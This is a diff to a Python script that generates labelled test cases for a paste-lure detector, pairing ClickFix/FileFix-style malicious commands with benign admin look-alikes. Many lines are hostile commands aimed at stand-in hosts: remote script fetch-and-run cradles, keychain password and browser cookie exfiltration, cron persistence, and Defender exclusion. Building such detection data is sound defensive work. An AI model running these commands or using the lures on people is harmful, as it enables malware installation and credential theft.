@@ -26,26 +26,6 @@ from casefile import Book, write  # beside this script (tests/data/cases/make_*.
 book = Book("t19")
 
 
-def lures(
-    technique: str,
-    platform: str,
-    target: str,
-    pages: list[str],
-    texts: list[str],
-    in_context: str = "malicious",
-    bare: str = "flagged",
-) -> None:
-    """Each text in its page's context (pages taken in turn) and bare."""
-    for i, text in enumerate(texts):
-        book.add(technique, text, in_context, platform, target, pages[i % len(pages)])
-        book.add(technique, text, bare, platform, "unknown", None)
-
-
-def benign(technique: str, platform: str, target: str, page: str | None, texts: list[str]) -> None:
-    for text in texts:
-        book.add(technique, text, "not_flagged", platform, target, page)
-
-
 def ps_enc(command: str) -> str:
     return base64.b64encode(command.encode("utf-16-le")).decode()
 
@@ -91,7 +71,7 @@ DISCORD = [
 # ---- Windows: Run box, powershell cradle with a fake verification tail --------------------
 # ClickFix "I am not a robot" comment padding (Proofpoint TA571 "self-pwn"; Sigma d487ed4a;
 # John Hammond recaptcha-phish). Wrapper: fake CAPTCHA; obfuscation: comment tail; fetch: iwr/irm.
-lures(
+book.lures(
     "ps-cradle-verification-tail",
     "windows",
     "run_dialog",
@@ -109,7 +89,7 @@ lures(
 )
 
 # Unicode spaces push the command out of the Run box (Expel cache smuggling; Sigma 3ae9974a).
-lures(
+book.lures(
     "unicode-space-padding",
     "windows",
     "run_dialog",
@@ -126,7 +106,7 @@ lures(
 )
 
 # Homoglyph lure tail (Elastic fbad57ec lists mixed-script "human validation").
-lures(
+book.lures(
     "homoglyph-tail",
     "windows",
     "run_dialog",
@@ -139,7 +119,7 @@ lures(
 
 # FileFix: pasted in Explorer's address bar / a file dialog, the visible part a fake path
 # (mrd0x FileFix 2025-06; DFIR Report KongTuke->Interlock 2025-07-14; Check Point FileFix).
-lures(
+book.lures(
     "filefix-fake-path",
     "windows",
     "explorer_bar",
@@ -167,7 +147,7 @@ lures(
 
 # mshta with a URL, an IP written in hex or as one number (Unit 42 Lumma 2024-08; Sekoia
 # Phantom Meet; Huntress stego write-up).
-lures(
+book.lures(
     "mshta-remote",
     "windows",
     "run_dialog",
@@ -183,7 +163,7 @@ lures(
 )
 
 # Remote MSI (eSentire NetSupport; Huntress Matanbuchus: mixed case, backslash URL).
-lures(
+book.lures(
     "msiexec-remote",
     "windows",
     "run_dialog",
@@ -198,7 +178,7 @@ lures(
 )
 
 # rundll32 / regsvr32 of a DLL on a WebDAV/UNC share (Zscaler COLDRIVER SIMPLEFIX; CyberProof).
-lures(
+book.lures(
     "dll-from-share",
     "windows",
     "run_dialog",
@@ -213,7 +193,7 @@ lures(
 )
 
 # WebDAV drive mapped and a batch run from it, no PowerShell at all (Atos 2026-03).
-lures(
+book.lures(
     "net-use-webdav-batch",
     "windows",
     "run_dialog",
@@ -227,7 +207,7 @@ lures(
 )
 
 # conhost --headless as a proxy (Zscaler MLTBackdoor), curl + tar + rundll32 chain.
-lures(
+book.lures(
     "conhost-headless",
     "windows",
     "run_dialog",
@@ -241,7 +221,7 @@ lures(
 )
 
 # finger.exe as a stager, caret-obfuscated (Huntress; KongTuke CrashFix).
-lures(
+book.lures(
     "finger-staging",
     "windows",
     "run_dialog",
@@ -255,7 +235,7 @@ lures(
 )
 
 # DNS TXT staging (Microsoft 2026-02 KongTuke -> ModeloRAT).
-lures(
+book.lures(
     "dns-txt-staging",
     "windows",
     "run_dialog",
@@ -274,7 +254,7 @@ lures(
 )
 
 # certutil / bitsadmin downloaders (LOLBAS; still in 2025 ClickFix batches).
-lures(
+book.lures(
     "certutil-bitsadmin-fetch",
     "windows",
     "run_dialog",
@@ -291,7 +271,7 @@ lures(
 )
 
 # VBS via curl + wscript / cscript, and a VBS written with echo (ClickGrab captures).
-lures(
+book.lures(
     "vbs-script-host",
     "windows",
     "run_dialog",
@@ -313,7 +293,7 @@ ENC = [
     "Start-Process -WindowStyle Hidden $env:TEMP\\u.exe -ArgumentList '/s'; iwr "
     "https://cdn.lumenfold.invalid/u.exe -OutFile $env:TEMP\\u.exe",
 ]
-lures(
+book.lures(
     "ps-encoded-command",
     "windows",
     "run_dialog",
@@ -326,7 +306,7 @@ lures(
 )
 
 # Base64 in the command, decoded at run time, mixed case (ClickGrab capture; KongTuke).
-lures(
+book.lures(
     "ps-base64-runtime-decode",
     "windows",
     "run_dialog",
@@ -342,7 +322,7 @@ lures(
 )
 
 # Aliases and wildcard command lookup (issue 9; KongTuke 2025 batches).
-lures(
+book.lures(
     "ps-alias-wildcard-lookup",
     "windows",
     "run_dialog",
@@ -355,7 +335,7 @@ lures(
 )
 
 # Property chain and string building (Fortinet "From ClickFix to Command").
-lures(
+book.lures(
     "ps-string-building",
     "windows",
     "run_dialog",
@@ -371,7 +351,7 @@ lures(
 )
 
 # cmd variable splitting and delayed expansion (eSentire; Rapid7).
-lures(
+book.lures(
     "cmd-variable-splitting",
     "windows",
     "run_dialog",
@@ -385,7 +365,7 @@ lures(
 )
 
 # WMI / pcalua / forfiles proxies (Unit 42 2026-08-05 davclnt; LOLBAS).
-lures(
+book.lures(
     "proxy-launchers",
     "windows",
     "run_dialog",
@@ -403,7 +383,7 @@ lures(
 
 # Cache smuggling: the page cached the payload as an image, the command carves it out of the
 # browser cache (Expel "cache smuggling"; Kaspersky FileFix; Sigma PR #6078).
-lures(
+book.lures(
     "cache-smuggling",
     "windows",
     "explorer_bar",
@@ -424,7 +404,7 @@ lures(
 )
 
 # Steganography: script pulls a PNG and rebuilds code from its pixels (Huntress 2025).
-lures(
+book.lures(
     "stego-image-loader",
     "windows",
     "run_dialog",
@@ -439,7 +419,7 @@ lures(
 )
 
 # Hex and XOR blobs (Microsoft 2026-03 Windows Terminal variant).
-lures(
+book.lures(
     "ps-hex-xor-blob",
     "windows",
     "terminal",
@@ -454,7 +434,7 @@ lures(
 )
 
 # Persistence planted from the paste (schtasks / Run key) with the download.
-lures(
+book.lures(
     "persistence-from-paste",
     "windows",
     "run_dialog",
@@ -470,7 +450,7 @@ lures(
 )
 
 # Defender weakened before the download (many 2025 ClickFix stages).
-lures(
+book.lures(
     "defender-exclusion-then-fetch",
     "windows",
     "run_dialog",
@@ -483,7 +463,7 @@ lures(
 )
 
 # Archive fetched, expanded and started (KongTuke Interlock; Lumma zip loaders).
-lures(
+book.lures(
     "archive-expand-start",
     "windows",
     "run_dialog",
@@ -497,7 +477,7 @@ lures(
 )
 
 # The payload wipes the clipboard afterwards (Proofpoint TA571).
-lures(
+book.lures(
     "self-clearing-clipboard",
     "windows",
     "run_dialog",
@@ -509,7 +489,7 @@ lures(
 )
 
 # Python stagers on Windows (CrashFix / Microsoft 2026-02 python RAT).
-lures(
+book.lures(
     "python-stager",
     "any",
     "run_dialog",
@@ -524,7 +504,7 @@ lures(
 )
 
 # Fake browser update (ClearFake, SocGholish-style) asking for a command.
-lures(
+book.lures(
     "fake-browser-update",
     "windows",
     "run_dialog",
@@ -538,7 +518,7 @@ lures(
 )
 
 # Fake meeting: "your microphone is blocked, run this fix" (Sekoia Phantom Meet; BleepingComputer).
-lures(
+book.lures(
     "fake-meeting-fix",
     "windows",
     "run_dialog",
@@ -553,7 +533,7 @@ lures(
 
 # EtherHiding: the next stage sits in a smart contract, read with eth_call (Google GTIG 2025;
 # ClearFake on BSC testnet).
-lures(
+book.lures(
     "etherhiding-contract-fetch",
     "windows",
     "run_dialog",
@@ -569,7 +549,7 @@ lures(
 # ---- macOS -------------------------------------------------------------------------------
 # curl | osascript (Netskope); do shell script with admin; base64 | zsh (Recorded Future
 # Odyssey, MacSync); xattr strip chain; env-var prefix (PasteSwitch); password phish (dscl).
-lures(
+book.lures(
     "curl-to-osascript",
     "macos",
     "terminal",
@@ -580,7 +560,7 @@ lures(
         "curl -s https://elmwick.invalid/s | osascript -l JavaScript",
     ],
 )
-lures(
+book.lures(
     "osascript-do-shell-script",
     "macos",
     "terminal",
@@ -593,7 +573,7 @@ lures(
         "curl -d @- https://cobaltridge.test/k\"'",
     ],
 )
-lures(
+book.lures(
     "base64-pipe-shell-mac",
     "macos",
     "terminal",
@@ -605,7 +585,7 @@ lures(
         f"echo {GZ} | base64 -D | gunzip | sh",
     ],
 )
-lures(
+book.lures(
     "homebrew-lookalike",
     "macos",
     "terminal",
@@ -617,7 +597,7 @@ lures(
         '/bin/zsh -c "$(curl -fsSL http://198.51.100.202/brew.sh)"',
     ],
 )
-lures(
+book.lures(
     "quarantine-strip-chain",
     "macos",
     "terminal",
@@ -629,7 +609,7 @@ lures(
         "xattr -dr com.apple.quarantine Installer.app && open Installer.app",
     ],
 )
-lures(
+book.lures(
     "env-prefix-disguise",
     "macos",
     "terminal",
@@ -639,7 +619,7 @@ lures(
         'LANG=en_US.UTF-8 TERM_SESSION=a81 curl -s "http://198.51.100.3/p/setup.sh" | bash',
     ],
 )
-lures(
+book.lures(
     "password-phish-dscl",
     "macos",
     "terminal",
@@ -651,7 +631,7 @@ lures(
         "/Helper.app; curl -s http://203.0.113.19/r | sh",
     ],
 )
-lures(
+book.lures(
     "nohup-background-fetch",
     "macos",
     "terminal",
@@ -665,7 +645,7 @@ lures(
 
 # ---- Linux -------------------------------------------------------------------------------
 # Hunt.io APT36 / PurpleShift Linux ClickFix: curl|bash, wget to /tmp, crontab, reverse shell.
-lures(
+book.lures(
     "linux-fetch-run",
     "linux",
     "terminal",
@@ -677,7 +657,7 @@ lures(
         "curl -fsSL https://fernholt.test/x.sh -o /dev/shm/x.sh; bash /dev/shm/x.sh",
     ],
 )
-lures(
+book.lures(
     "linux-cron-persistence",
     "linux",
     "terminal",
@@ -687,7 +667,7 @@ lures(
         "echo '@reboot root wget -qO- https://fernholt.test/p | sh' | sudo tee /etc/cron.d/sysupd",
     ],
 )
-lures(
+book.lures(
     "linux-reverse-shell",
     "linux",
     "terminal",
@@ -701,7 +681,7 @@ lures(
 )
 
 # ---- Browser console / bookmarklet (self-XSS; Discord/Roblox "verification") ---------------
-lures(
+book.lures(
     "console-remote-eval",
     "any",
     "browser_console",
@@ -716,7 +696,7 @@ lures(
         + "'))()",
     ],
 )
-lures(
+book.lures(
     "console-token-theft",
     "any",
     "browser_console",
@@ -729,7 +709,7 @@ lures(
         "navigator.sendBeacon('https://free-nitro.example/g',t)",
     ],
 )
-lures(
+book.lures(
     "bookmarklet-lure",
     "any",
     "other",
@@ -743,7 +723,7 @@ lures(
 )
 
 # ---- ConsentFix: a loopback redirect carrying an OAuth code, pasted back to a page ----------
-lures(
+book.lures(
     "consentfix-loopback-code",
     "any",
     "other",
@@ -756,7 +736,7 @@ lures(
 )
 
 # ---- Device-code phishing text (Microsoft Storm-2372 2025; Volexity) -----------------------
-lures(
+book.lures(
     "device-code-pretext",
     "any",
     "other",
@@ -770,7 +750,7 @@ lures(
 )
 
 # ---- Callback phishing (TOAD: BazarCall-style order / renewal notices) --------------------
-lures(
+book.lures(
     "callback-order-notice",
     "any",
     "other",
@@ -786,7 +766,7 @@ lures(
 
 # ---- More Windows surfaces -------------------------------------------------------------
 # search-ms: / Explorer opening a WebDAV folder the page controls (Trustwave 2024; Atos 2026).
-lures(
+book.lures(
     "search-ms-webdav",
     "windows",
     "run_dialog",
@@ -801,7 +781,7 @@ lures(
 )
 
 # Script and program started straight from a stranger's share or web folder.
-lures(
+book.lures(
     "run-from-unc",
     "windows",
     "run_dialog",
@@ -816,7 +796,7 @@ lures(
 )
 
 # curl's answer piped into powershell's standard input, and HttpClient cradles.
-lures(
+book.lures(
     "stdin-and-dotnet-cradles",
     "windows",
     "run_dialog",
@@ -833,7 +813,7 @@ lures(
 )
 
 # DNS-over-HTTPS TXT answer run as code (a DNS-staging variant no resolver log shows).
-lures(
+book.lures(
     "doh-txt-staging",
     "windows",
     "run_dialog",
@@ -847,7 +827,7 @@ lures(
 )
 
 # A code host or paste site serves the script; the lure page is someone else's.
-lures(
+book.lures(
     "abused-code-host",
     "windows",
     "run_dialog",
@@ -862,7 +842,7 @@ lures(
 )
 
 # App Installer protocol and elevated relaunch.
-lures(
+book.lures(
     "appinstaller-and-elevation",
     "windows",
     "run_dialog",
@@ -875,7 +855,7 @@ lures(
 )
 
 # Fake job interview "camera driver fix" (Sekoia ClickFake Interview 2025, Lazarus).
-lures(
+book.lures(
     "fake-interview-driver-fix",
     "any",
     "terminal",
@@ -894,7 +874,7 @@ lures(
 )
 
 # A pasted instruction block: the steps and the command together (fake "prove you are human").
-lures(
+book.lures(
     "instruction-block",
     "windows",
     "run_dialog",
@@ -910,7 +890,7 @@ lures(
 )
 
 # ---- More macOS / Linux -------------------------------------------------------------------
-lures(
+book.lures(
     "mac-persistence-and-gatekeeper",
     "macos",
     "terminal",
@@ -923,7 +903,7 @@ lures(
         "security find-generic-password -ga Chrome -w | curl -s -d @- https://elmwick.invalid/k",
     ],
 )
-lures(
+book.lures(
     "dev-package-lure",
     "any",
     "terminal",
@@ -934,7 +914,7 @@ lures(
         "curl -s https://cobaltridge.test/p.py | python3 -",
     ],
 )
-lures(
+book.lures(
     "linux-desktop-persistence",
     "linux",
     "terminal",
@@ -950,7 +930,7 @@ lures(
 
 # ---- Spelling variety: the same acts written the ways obfuscation kits write them ----------
 # (Invoke-Obfuscation / Revoke-Obfuscation catalogue; KongTuke and Lumma batches 2025.)
-lures(
+book.lures(
     "ps-name-hiding",
     "windows",
     "run_dialog",
@@ -968,7 +948,7 @@ lures(
         'p^o^w^e^r^s^h^e^l^l -w h -c "irm 198.51.100.234/i|iex"',
     ],
 )
-lures(
+book.lures(
     "ps-in-memory-assembly",
     "windows",
     "run_dialog",
@@ -980,7 +960,7 @@ lures(
         "[System.Reflection.Assembly]::Load($b).GetType('A.B').GetMethod('Run').Invoke(0,$null)\"",
     ],
 )
-lures(
+book.lures(
     "download-then-start",
     "windows",
     "run_dialog",
@@ -999,7 +979,7 @@ lures(
         "hallowick.test/q|iex',0);close()\"",
     ],
 )
-lures(
+book.lures(
     "cmd-substring-names",
     "windows",
     "run_dialog",
@@ -1010,7 +990,7 @@ lures(
         'hallowick.test/t^|iex"',
     ],
 )
-lures(
+book.lures(
     "url-only-verification-tail",
     "windows",
     "run_dialog",
@@ -1021,7 +1001,7 @@ lures(
         "http://lumenfold.invalid/captcha.msi ✅ Verified human - press Enter",
     ],
 )
-lures(
+book.lures(
     "mac-fetch-variants",
     "macos",
     "terminal",
@@ -1037,7 +1017,7 @@ lures(
         '/usr/bin/osascript -e "$(curl -s https://198.51.100.243/s)" >/dev/null 2>&1 &',
     ],
 )
-lures(
+book.lures(
     "linux-fetch-variants",
     "linux",
     "terminal",
@@ -1052,7 +1032,7 @@ lures(
 )
 
 # ---- Renamed and lesser-known living-off-the-land programs (LOLBAS; KongTuke copies finger) --
-lures(
+book.lures(
     "renamed-lolbin",
     "windows",
     "run_dialog",
@@ -1066,7 +1046,7 @@ lures(
         'https://lumenfold.invalid/x -o %PUBLIC%\\x.bat && %PUBLIC%\\x.bat"',
     ],
 )
-lures(
+book.lures(
     "dotnet-build-tools",
     "windows",
     "run_dialog",
@@ -1078,7 +1058,7 @@ lures(
         "Framework\\v4.0.30319\\InstallUtil.exe /logfile= /LogToConsole=false /U %TEMP%\\i.dll",
     ],
 )
-lures(
+book.lures(
     "ps-invoke-forms",
     "windows",
     "run_dialog",
@@ -1093,7 +1073,7 @@ lures(
         "'https://hallowick.test/u.hta'\"",
     ],
 )
-lures(
+book.lures(
     "console-more",
     "any",
     "browser_console",
@@ -1107,7 +1087,7 @@ lures(
         "window.location='https://free-nitro.example/c?'+document.cookie",
     ],
 )
-lures(
+book.lures(
     "consentfix-spellings",
     "any",
     "other",
@@ -1118,7 +1098,7 @@ lures(
         "http://127.0.0.1/?state=Xy8Qw&code=M.C501_BL2.2.U.b3f0c1d2-e3f4-a5b6-c7d8-e9f0a1b2c3d4",
     ],
 )
-lures(
+book.lures(
     "device-code-other-hosts",
     "any",
     "other",
@@ -1133,7 +1113,7 @@ lures(
 
 # ================= Look-alikes: the legitimate version of each act =========================
 ADMIN = "https://wiki.corp.example/it/runbooks"
-benign(
+book.benign(
     "admin-windows",
     "windows",
     "terminal",
@@ -1156,7 +1136,7 @@ benign(
         "[Convert]::ToBase64String([IO.File]::ReadAllBytes('.\\cert.cer'))",
     ],
 )
-benign(
+book.benign(
     "admin-windows-run",
     "windows",
     "run_dialog",
@@ -1168,7 +1148,7 @@ benign(
         "wf.msc",
     ],
 )
-benign(
+book.benign(
     "admin-windows-more",
     "windows",
     "terminal",
@@ -1183,7 +1163,7 @@ benign(
         "(Invoke-RestMethod 'https://dns.google/resolve?name=corp.example&type=MX').Answer",
     ],
 )
-benign(
+book.benign(
     "admin-shares-and-bookmarklets",
     "windows",
     "terminal",
@@ -1195,7 +1175,7 @@ benign(
         "\\\\172.20.4.9\\tools\\sysinternals\\procmon.exe /AcceptEula",
     ],
 )
-benign(
+book.benign(
     "bookmarklets-ok",
     "any",
     "other",
@@ -1209,7 +1189,7 @@ benign(
         "javascript:void(localStorage.clear())",
     ],
 )
-benign(
+book.benign(
     "device-code-awareness",
     "any",
     "other",
@@ -1221,7 +1201,7 @@ benign(
         "github.com in your browser...",
     ],
 )
-benign(
+book.benign(
     "developer-more",
     "any",
     "terminal",
@@ -1234,7 +1214,7 @@ benign(
         "echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.bashrc",
     ],
 )
-benign(
+book.benign(
     "developer-macos",
     "macos",
     "terminal",
@@ -1247,7 +1227,7 @@ benign(
         "dscacheutil -flushcache; sudo killall -HUP mDNSResponder",
     ],
 )
-benign(
+book.benign(
     "homebrew-own-page",
     "macos",
     "terminal",
@@ -1257,7 +1237,7 @@ benign(
         'https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)" && brew doctor'
     ],
 )
-benign(
+book.benign(
     "developer-linux",
     "linux",
     "terminal",
@@ -1271,7 +1251,7 @@ benign(
         "sudo systemctl restart nginx && journalctl -u nginx -n 50",
     ],
 )
-benign(
+book.benign(
     "developer-console",
     "any",
     "browser_console",
@@ -1283,7 +1263,7 @@ benign(
         "console.table(performance.getEntriesByType('resource').map(e => [e.name, e.duration]))",
     ],
 )
-benign(
+book.benign(
     "oauth-dev-notes",
     "any",
     "terminal",
@@ -1294,7 +1274,7 @@ benign(
         "curl -s http://127.0.0.1:8080/healthz",
     ],
 )
-benign(
+book.benign(
     "scam-awareness",
     "any",
     "other",
